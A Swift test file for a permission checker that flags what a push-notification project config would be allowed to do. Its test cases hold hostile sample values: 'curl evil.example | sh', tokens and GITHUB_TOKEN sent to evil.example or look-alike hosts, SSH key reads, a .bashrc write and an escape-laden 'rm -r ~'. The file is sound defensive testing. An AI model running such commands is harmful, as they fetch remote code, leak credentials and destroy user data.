import FCMClient
import SendPolicy
import Testing
import Workspace

/// What a project file needs permission for.
struct ProjectPowerTests {
  struct Case: CustomTestStringConvertible, Sendable {
    var testDescription: String
    var endpoint = "https://fcm.googleapis.com"
    var change: @Sendable (inout Profile, inout ProfileFacts) -> Void = { _, _ in }
    var powers: [String]
  }

  private static let proof = IdentityProof(
    origin: .file(path: "/home/mia/.ssh/id"), receiver: "https://sts.googleapis.com",
    isForGoogle: true)

  private static let cases = [
    Case(testDescription: "nothing but a project", powers: []),
    Case(
      testDescription: "the user's own account at FCM",
      change: { _, facts in facts.account = "mia@example.com" }, powers: []),
    Case(
      testDescription: "a key of the project on this machine", endpoint: "http://127.0.0.1:8123",
      change: { profile, facts in (profile.credentials, facts.account) = ("key.json", "a@b") },
      powers: []),
    Case(
      testDescription: "the user's own account elsewhere", endpoint: "https://evil.example",
      change: { _, facts in facts.account = "mia@example.com" },
      powers: ["send tokens of mia@example.com to https://evil.example, which isn't Google's FCM"]),
    Case(
      testDescription: "a key of the project elsewhere", endpoint: "https://evil.example:8443",
      change: { profile, facts in (profile.credentials, facts.account) = ("key.json", "a@b") },
      powers: ["send tokens of a@b to https://evil.example:8443, which isn't Google's FCM"]),
    Case(
      testDescription: "a bucket of somebody's at Google",
      endpoint: "https://bucket.storage.googleapis.com",
      change: { _, facts in facts.account = "a@b" },
      powers: [
        "send tokens of a@b to https://bucket.storage.googleapis.com, which isn't Google's FCM"
      ]),
    Case(
      testDescription: "a name that only looks like FCM's",
      endpoint: "https://fcm.googleapis.com.evil.example",
      change: { _, facts in facts.account = "a@b" },
      powers: [
        "send tokens of a@b to https://fcm.googleapis.com.evil.example, which isn't Google's FCM"
      ]),
    Case(
      testDescription: "no endpoint at all gets no token",
      endpoint: "https://fcm.googleapis.com@evil.example",
      change: { profile, facts in profile.tokenCommand = ["true"] }, powers: []),
    Case(
      testDescription: "a key outside",
      change: { profile, facts in
        (profile.credentials, facts.outsideKey) = ("~/k.json", "/home/mia/k.json")
      },
      powers: [
        "read the key /home/mia/k.json and send tokens of its account to "
          + "https://fcm.googleapis.com"
      ]),
    Case(
      testDescription: "a program",
      change: { profile, _ in profile.tokenCommand = ["sh", "-c", "curl evil.example | sh"] },
      powers: [
        "run sh -c 'curl evil.example | sh' and send the token that it prints to "
          + "https://fcm.googleapis.com"
      ]),
    Case(
      testDescription: "a program of the project",
      change: { profile, facts in
        profile.tokenCommand = ["./get-token"]
        (facts.command, facts.commandContents) = (["/shop/get-token"], ["0a1b"])
      },
      powers: [
        "run /shop/get-token as it is now and send the token that it prints to "
          + "https://fcm.googleapis.com"
      ]),
    Case(
      testDescription: "a variable", endpoint: "https://evil.example",
      change: { profile, _ in profile.tokenVariable = "GITHUB_TOKEN" },
      powers: ["send the environment variable GITHUB_TOKEN as a token to https://evil.example"]),
    Case(
      testDescription: "a variable on this machine, where another user may listen",
      endpoint: "http://127.0.0.1:8123",
      change: { profile, _ in profile.tokenVariable = "FCM_TOKEN" },
      powers: ["send the environment variable FCM_TOKEN as a token to http://127.0.0.1:8123"]),
    Case(
      testDescription: "a key file that sends another file away",
      change: { profile, facts in (profile.credentials, facts.proof) = ("key.json", proof) },
      powers: [
        "read /home/mia/.ssh/id and send it to https://sts.googleapis.com as a proof of identity"
      ]),
    Case(
      testDescription: "a proof that is the project's",
      change: { profile, facts in
        (profile.credentials, facts.proof, facts.isProofInside) = ("key.json", proof, true)
      }, powers: []),
    Case(
      testDescription: "a key of the project that asks this machine for a token of Google's FCM",
      change: { profile, facts in
        (profile.credentials, facts.account) = ("key.json", "a@b")
        facts.localTokenServers = ["http://127.0.0.1:8123"]
      },
      powers: ["prove to http://127.0.0.1:8123 that it is a@b, which only Google should be told"]),
    Case(
      testDescription: "a key of the project that asks another server of this machine",
      endpoint: "http://127.0.0.1:8124",
      change: { profile, facts in
        (profile.credentials, facts.account) = ("key.json", "a@b")
        facts.localTokenServers = ["http://localhost:8123"]
      },
      powers: ["prove to http://localhost:8123 that it is a@b, which only Google should be told"]),
    Case(
      testDescription: "a key of the project that asks the local FCM itself",
      endpoint: "http://127.0.0.1:8123",
      change: { profile, facts in
        (profile.credentials, facts.account) = ("key.json", "a@b")
        facts.localTokenServers = ["http://localhost:8123"]
      }, powers: []),
    Case(
      testDescription: "a journal outside",
      change: { profile, facts in facts.outsideJournal = "/home/mia/.bashrc" },
      powers: ["record sends in /home/mia/.bashrc"]),
  ]

  @Test(arguments: cases)
  func `Each power is named with what it uses and where that goes`(testCase: Case) {
    var profile = Profile(name: "prod", project: "shop", endpoint: testCase.endpoint)
    var facts = ProfileFacts()
    testCase.change(&profile, &facts)
    let powers = ProjectPower.needed(by: profile, facts)
    #expect(powers.map(\.description) == testCase.powers)
  }

  @Test func `Powers that differ in anything have different hashes`() {
    let powers: [ProjectPower] = [
      .run(["a", "b"], endpoint: "e"), .run(["a b"], endpoint: "e"),
      .run(["a", "b"], endpoint: "f"),
      .run(["b", "a"], endpoint: "e"), .readKey(path: "a", endpoint: "e"),
      .readKey(path: "a", endpoint: "f"), .sendVariable("a", endpoint: "e"),
      .sendTokens(account: "a", endpoint: "e"), .prove(.file(path: "a"), to: "e"),
      .prove(.server("a"), to: "e"), .signIn(account: "a", at: "e"), .record(path: "a"),
      .beUsed(although: "a"),
    ]
    #expect(Set(powers.map(\.id)).count == powers.count)
    #expect(powers.allSatisfy { $0.id.utf8.count == 64 })
  }

  @Test func `What a terminal would obey is a mark, and nothing is cut`() {
    let long = String(repeating: "x", count: 5000)
    let power = ProjectPower.run(["sh", "-c", "\u{1B}[2K\u{202E}\(long); rm -r ~"], endpoint: "e")
    #expect(power.description.contains(#"\u{1B}[2K\u{202E}xxx"#))
    #expect(power.description.contains("xxx; rm -r ~'"))
    let request = PermissionRequest(file: "/tmp/it's \u{7}/pushwright.toml", powers: [power])
    #expect(request.command == #"pushwright config trust '/tmp/it'\''s \u{7}/pushwright.toml'"#)
  }

  @Test(arguments: [(19, 10, true), (20, 10, false), (1, 1400, true), (1, 1600, false)])
  func `A question is asked only where all of it is in view`(
    count: Int, length: Int, fits: Bool
  ) {
    let powers = (0..<count).map {
      ProjectPower.record(path: "/\($0)" + String(repeating: "x", count: length))
    }
    #expect(PermissionRequest(file: "/p.toml", powers: powers).fitsOnScreen == fits)
  }
}
